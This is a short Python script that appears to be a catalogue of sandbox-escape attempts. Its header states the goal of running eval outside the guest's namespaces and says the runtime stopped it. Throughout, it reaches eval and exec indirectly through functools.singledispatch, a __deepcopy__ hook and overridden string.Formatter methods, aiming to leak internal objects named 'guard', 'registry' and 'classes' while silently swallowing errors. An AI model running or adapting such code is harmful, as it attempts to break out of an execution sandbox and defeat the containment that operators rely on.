# goal: eval without namespaces called from frames that are not the guest's
# stopped by: runtime
import functools, re, json, contextlib, copy, string, collections
LEAKED = []
probe = 'leak([x for x in globals().values()])'
for act in [
    lambda: functools.singledispatch(eval)('globals()'),
    lambda: functools.singledispatch(eval)('locals()'),
    lambda: functools.singledispatch(eval)('classes'),
    lambda: functools.singledispatch(eval)('guard'),
    lambda: functools.singledispatch(eval)('registry'),
    lambda: copy.deepcopy(type('A', (), {'__deepcopy__': lambda self, memo: eval('1')})()),
    lambda: functools.singledispatch(exec)('import json as poison_of_library'),
    lambda: functools.cached_property(eval).func('classes'),
    lambda: string.Formatter().vformat('{0}', (type('F', (), {'__format__': staticmethod(lambda s: '')})(),), {}),
]:
    try:
        LEAKED.append(act())
    except Exception:
        pass
class S(string.Formatter):
    format_field = staticmethod(lambda v, spec: LEAKED.append(eval(v)) or '')
    get_value = staticmethod(lambda *a: 'guard')
class T(string.Formatter):
    convert_field = staticmethod(eval)
for F in [S, T]:
    for text in ['{0!r}', '{guard!s}', '{classes}', '{string!s}']:
        try:
            LEAKED.append(F().format(text, 'guard'))
        except Exception:
            pass
LEAKED = [x for x in LEAKED if type(x) not in (str, int) and x is not None]
LEAKED
